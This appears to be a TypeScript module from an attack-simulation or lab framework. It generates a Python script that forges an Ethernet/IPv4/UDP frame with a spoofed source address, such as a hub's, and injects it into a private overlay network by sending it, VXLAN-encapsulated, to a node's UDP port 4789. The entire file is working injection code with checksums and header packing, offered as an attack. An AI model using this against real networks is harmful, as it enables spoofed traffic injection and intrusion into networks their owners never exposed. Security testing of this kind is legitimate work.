/**
 * Frames put into people's network from outside of it: nodes carry it in VXLAN, which takes whatever arrives by UDP at
 * its port.
 */
import { HEARD } from "../attacks/reach";
import type { Working } from "./working";

const VXLAN_PORT = 4789;

export interface Injected {
    /** Address of the node that unpacks it. */
    node: string;
    /** Number of the network on the wire. */
    vni: number;
    /** Whose address it pretends to come from: the hub's, for example. */
    source: string;
    text: string;
}

/** Python that sends to a server a datagram in such a frame. Whether it arrives, the server says. */
export function injection(to: Working, { node, vni, source, text }: Injected): string {
    const alike = ({ ip }: { ip: string }) => source.split(".").findIndex((byte, i) => byte !== ip.split(".")[i]);
    const [{ ip, mac }] = [...to.interfaces].sort((a, b) => alike(b) - alike(a));
    return `
import socket, struct
def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff
text = ${JSON.stringify(text)}.encode()
def ip(total, check=0):
    return struct.pack('>BBHHHBBH4s4s', 0x45, 0, total, 1, 0, 64, 17, check, socket.inet_aton('${source}'), socket.inet_aton('${ip}'))
udp = struct.pack('>HHHH', 8081, ${HEARD.udp}, 8 + len(text), 0) + text
ethernet = bytes.fromhex('${mac.replaceAll(":", "")}' + '0242ac4d0001' + '0800')
frame = ethernet + ip(20 + len(udp), checksum(ip(20 + len(udp)))) + udp
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(struct.pack('>B3xI', 8, ${vni} << 8) + frame, ('${node}', ${VXLAN_PORT}))
    except OSError:
        pass
print('sent')`;
}
